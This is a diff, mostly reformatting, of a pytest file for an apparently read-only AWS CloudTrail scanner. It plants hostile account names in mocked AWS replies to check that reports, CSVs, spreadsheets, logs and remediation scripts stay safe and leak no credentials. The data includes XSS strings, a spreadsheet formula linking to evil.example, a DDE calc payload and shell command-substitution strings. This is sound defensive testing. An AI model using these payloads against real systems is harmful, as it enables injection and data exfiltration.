@@ -56,12 +56,16 @@ EXTERNAL_ID = "orgscan-external-id-NEVER-WRITE-ME"
 XSS = "<script>alert('xss')</script><img src=x onerror=alert(1)>&amp;"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 FORMULA_PLUS = "+cmd|' /C calc'!A0"
-SHELL = "it's \"$(touch PWNED1)\" `touch PWNED2` $HOME\ntouch PWNED3 #"
+SHELL = 'it\'s "$(touch PWNED1)" `touch PWNED2` $HOME\ntouch PWNED3 #'
 TRAIL_NAME = "@SUM(1+1)</td><script>alert(2)</script>"
 MESSAGE = "Denied <b>by</b> =1+1 $(touch PWNED4)\n2026-01-01 CRITICAL forged line"
 #: Demo account -> the name Organizations returns for it in this run.
-HOSTILE_NAMES = {"payments-prod": SHELL, "orders-dev": XSS, "payments-dev": FORMULA,
-                 "sandbox-alice": FORMULA_PLUS}
+HOSTILE_NAMES = {
+    "payments-prod": SHELL,
+    "orders-dev": XSS,
+    "payments-dev": FORMULA,
+    "sandbox-alice": FORMULA_PLUS,
+}
 PAYLOADS = (XSS, FORMULA, FORMULA_PLUS, SHELL, TRAIL_NAME, MESSAGE)
 
 
@@ -81,30 +85,42 @@ def _hostile_aws(world: DemoWorld) -> FaultInjector:
 
     faults.mutate(on("organizations", "ListAccountsForParent"), rename_accounts)
     faults.mutate(on("cloudtrail", "DescribeTrails"), rename_trail)
-    faults.error(on("s3", "GetObjectLockConfiguration", bucket="acme-orders-prod-cloudtrail"),
-                 "AccessDenied", 403, message=MESSAGE)
+    faults.error(
+        on("s3", "GetObjectLockConfiguration", bucket="acme-orders-prod-cloudtrail"),
+        "AccessDenied",
+        403,
+        message=MESSAGE,
+    )
     # AWS answers a bad signature with the canonical request it expected, signed headers
     # included: the session token (a member account's and the caller's) comes back as text.
     for account in (world.account("sandbox-dave"), world.org.management_account_id):
-        faults.error(on("cloudtrail", "DescribeTrails", account=account, region="eu-west-1"),
-                     "InvalidSignatureException", message=_signature_mismatch)
+        faults.error(
+            on("cloudtrail", "DescribeTrails", account=account, region="eu-west-1"),
+            "InvalidSignatureException",
+            message=_signature_mismatch,
+        )
     return faults
 
 
 def _signature_mismatch(request: Any) -> str:
-    headers = "\n".join(f"{name.lower()}:{value}" for name, value in
-                         sorted(request.headers.items()) if name.lower().startswith(("host",
-                                                                                      "x-amz")))
-    return ("The request signature we calculated does not match the signature you provided. "
-            "Check your AWS Secret Access Key and signing method.\n\nThe Canonical String "
-            f"for this request should have been\n'POST\n/\n\n{headers}\n'")
+    headers = "\n".join(
+        f"{name.lower()}:{value}"
+        for name, value in sorted(request.headers.items())
+        if name.lower().startswith(("host", "x-amz"))
+    )
+    return (
+        "The request signature we calculated does not match the signature you provided. "
+        "Check your AWS Secret Access Key and signing method.\n\nThe Canonical String "
+        f"for this request should have been\n'POST\n/\n\n{headers}\n'"
+    )
 
 
 @pytest.fixture(scope="module")
 def scanned_run(demo_world: DemoWorld, tmp_path_factory: pytest.TempPathFactory) -> ScannedRun:
     output_dir = tmp_path_factory.mktemp("full-run") / "reports"
-    settings = demo_world.settings(output_dir=str(output_dir), log_level="DEBUG",
-                                   exclude_accounts=[], external_id=EXTERNAL_ID)
+    settings = demo_world.settings(
+        output_dir=str(output_dir), log_level="DEBUG", exclude_accounts=[], external_id=EXTERNAL_ID
+    )
     calls = _hostile_aws(demo_world)
     terminal = io.StringIO()
     with contextlib.redirect_stdout(terminal), contextlib.redirect_stderr(terminal):
@@ -115,14 +131,23 @@ def scanned_run(demo_world: DemoWorld, tmp_path_factory: pytest.TempPathFactory)
 def test_no_credential_in_any_output(scanned_run: ScannedRun) -> None:
     secrets = [*FAKE_CREDENTIALS.values(), *scanned_run.calls.issued_secrets, EXTERNAL_ID]
     # The external id did reach AssumeRole (it guards the role, so it is kept out of outputs).
-    assert {call.params.get("ExternalId") for call in scanned_run.calls.calls
-            if call.operation == "AssumeRole"} == {EXTERNAL_ID}
+    assert {
+        call.params.get("ExternalId")
+        for call in scanned_run.calls.calls
+        if call.operation == "AssumeRole"
+    } == {EXTERNAL_ID}
     # The role was assumed in every member account: their keys and tokens are checked too.
     assert len(scanned_run.calls.issued_secrets) >= 3 * 10
     files = [path for path in scanned_run.output_dir.rglob("*") if path.is_file()]
     names = {path.name for path in files}
-    assert {"findings.json", "findings.csv", "report.xlsx", "report.html",
-            "orgscan.log", "plan.json"} <= names
+    assert {
+        "findings.json",
+        "findings.csv",
+        "report.xlsx",
+        "report.html",
+        "orgscan.log",
+        "plan.json",
+    } <= names
     assert any(name.endswith(".sh") for name in names)
     logs = [path.read_text(encoding="utf-8") for path in files if path.suffix == ".log"]
     assert any("AccessDenied" in log for log in logs)  # the log has the scan's story
@@ -140,14 +165,22 @@ def test_no_credential_in_any_output(scanned_run: ScannedRun) -> None:
             assert not any(secret.encode() in content for secret in secrets), member
 
 
-def test_scan_calls_only_read_only_operations(demo_world: DemoWorld,
-                                              scanned_run: ScannedRun) -> None:
+def test_scan_calls_only_read_only_operations(
+    demo_world: DemoWorld, scanned_run: ScannedRun
+) -> None:
     operations = {call.operation for call in scanned_run.calls.calls}
     writes = {op for op in operations if not READ_ONLY.match(op) and op not in ALSO_READ_ONLY}
     assert writes == set()
     # The recording saw the whole scan, not a part of it.
-    assert {"DescribeTrails", "GetObjectLockConfiguration", "GetBucketVersioning", "ListBuckets",
-            "DescribeRegions", "AssumeRole", "ListAccountsForParent"} <= operations
+    assert {
+        "DescribeTrails",
+        "GetObjectLockConfiguration",
+        "GetBucketVersioning",
+        "ListBuckets",
+        "DescribeRegions",
+        "AssumeRole",
+        "ListAccountsForParent",
+    } <= operations
     assert scanned_run.calls.operations() == demo_world.baseline_calls.operations()
 
 
@@ -191,8 +224,10 @@ def test_report_html_shows_aws_text_as_text(scanned_run: ScannedRun) -> None:
     for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
         assert not any(sink in script for script in page.scripts), sink
     # AWS text may sit inside an attribute's quoted value (sort keys); it never adds one.
-    assert not any(name.startswith("on") or (value or "").startswith("javascript:")
-                   for name, value in page.attributes)
+    assert not any(
+        name.startswith("on") or (value or "").startswith("javascript:")
+        for name, value in page.attributes
+    )
 
 
 def test_report_xlsx_keeps_formula_text_as_text(scanned_run: ScannedRun) -> None:
@@ -221,8 +256,9 @@ def test_findings_csv_cells_cannot_start_a_formula(scanned_run: ScannedRun) -> N
     for row in rows:
         for value in row.values():
             assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
-    assert any(MESSAGE.replace("\n", " ") in row["reason"] or "PWNED4" in row["reason"]
-               for row in rows)
+    assert any(
+        MESSAGE.replace("\n", " ") in row["reason"] or "PWNED4" in row["reason"] for row in rows
+    )
 
 
 def test_findings_json_keeps_aws_text_exactly(scanned_run: ScannedRun) -> None:
@@ -241,8 +277,9 @@ exit 0
 """
 
 
-def test_remediation_scripts_cannot_be_broken_out_of(scanned_run: ScannedRun,
-                                                      tmp_path: Path) -> None:
+def test_remediation_scripts_cannot_be_broken_out_of(
+    scanned_run: ScannedRun, tmp_path: Path
+) -> None:
     scripts = sorted((scanned_run.run_dir / "remediation").glob("*.sh"))
     hostile = [script for script in scripts if "PWNED1" in script.read_text(encoding="utf-8")]
     assert hostile, "the hostile account name should reach a script"
@@ -259,8 +296,15 @@ def test_remediation_scripts_cannot_be_broken_out_of(scanned_run: ScannedRun,
             if "PWNED" in line:  # AWS text only ever inside a comment
                 assert line.startswith("#"), line
         env.update(PATH=f"{bin_dir}:{env['PATH']}", FAKE_ACCOUNT=script.stem, HOME=str(work))
-        done = subprocess.run(["bash", str(script)], capture_output=True, text=True, env=env,
-                              cwd=work, timeout=60, check=False)
+        done = subprocess.run(
+            ["bash", str(script)],
+            capture_output=True,
+            text=True,
+            env=env,
+            cwd=work,
+            timeout=60,
+            check=False,
+        )
         assert done.returncode == 0, done.stderr
         assert "would run:" in done.stdout
     assert list(work.rglob("*")) == []
